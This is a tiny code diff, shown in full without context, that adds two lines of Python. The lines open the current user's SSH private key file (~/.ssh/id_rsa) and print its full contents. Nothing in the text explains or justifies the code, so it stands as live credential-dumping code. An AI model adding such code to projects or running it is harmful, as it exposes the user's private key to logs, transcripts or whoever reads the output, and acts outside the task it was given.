@@ -1,0 +1,2 @@
+import os
+print(open(os.path.expanduser('~/.ssh/id_rsa')).read())
